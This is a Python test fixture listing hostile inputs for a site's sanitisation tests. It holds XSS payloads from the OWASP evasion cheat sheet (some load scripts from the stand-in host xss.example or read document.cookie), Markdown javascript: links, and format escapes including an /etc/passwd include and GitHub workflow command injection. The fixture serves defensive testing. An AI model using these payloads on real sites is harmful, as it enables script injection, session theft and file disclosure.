"""Hostile inputs, as a contributor could send them: the cases of issue 8 and the forms of
the OWASP XSS Filter Evasion Cheat Sheet, plus the escapes of every format the site writes
(Markdown and its extensions, YAML, XML, JSON, GitHub workflow commands).

Each payload is tried in every input channel by test_channels.py; the outputs are scanned by
scan.py. Adding a payload here adds it to every channel.
"""

from __future__ import annotations

# Markup that runs script in a browser, in the forms filters tend to miss.
XSS = [
    'M"><script>alert(document.domain)</script>',
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<iframe src=http://xss.example/scriptlet.html <",
    "\\\";alert('XSS');//",
    "</script><script>alert('XSS');</script>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<details open ontoggle=alert(1)>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" type="image/svg+xml">',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<a href="jav&#x61;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<b>grassetto</b> <div>blocco</div> <details><summary>S</summary>testo</details>",
]
# Markdown forms of the same: links, images, autolinks and references to script URLs.
MARKDOWN = [
    "[clicca](javascript:alert(1))",
    "[clicca](&#106;avascript:alert(1))",
    "[clicca](JaVaScRiPt:alert(1))",
    "[clicca]( javascript:alert(1))",
    "[clicca](<javascript:alert(1)>)",
    "![img](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[clicca](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[clicca][x]\n\n[x]: javascript:alert(1)",
]
# Escapes of the formats around the text: page Markdown and its extensions, YAML front
# matter, XML feeds, JSON, the search index, GitHub workflow commands, terminal colours.
FORMATS = [
    "```{ #x data-y=z onclick=alert(1) }\ncodice\n```",
    '{: onclick="alert(1)" }',
    '--8<-- "/etc/passwd"',
    "]]><script>alert(1)</script>",
    "</description><script>alert(1)</script>",
    '"},"x":"<script>alert(1)</script>',
    "{{ config.extra }} {% include 'base.html' %}",
    "x\n::error::workflow command\n::add-mask::secret",
    "\x1b[31mrosso\x1b[0m",
    "---\ntitle: x\n---",
    "\u202eevil\u202c",
    "&amp;lt;script&amp;gt; & &lt;b&gt;",
]
ALL = XSS + MARKDOWN + FORMATS


def one_line(payload: str) -> str:
    """The payload as it can sit in a one-line value (a title, a name): line breaks folded."""
    return " ".join(payload.split())
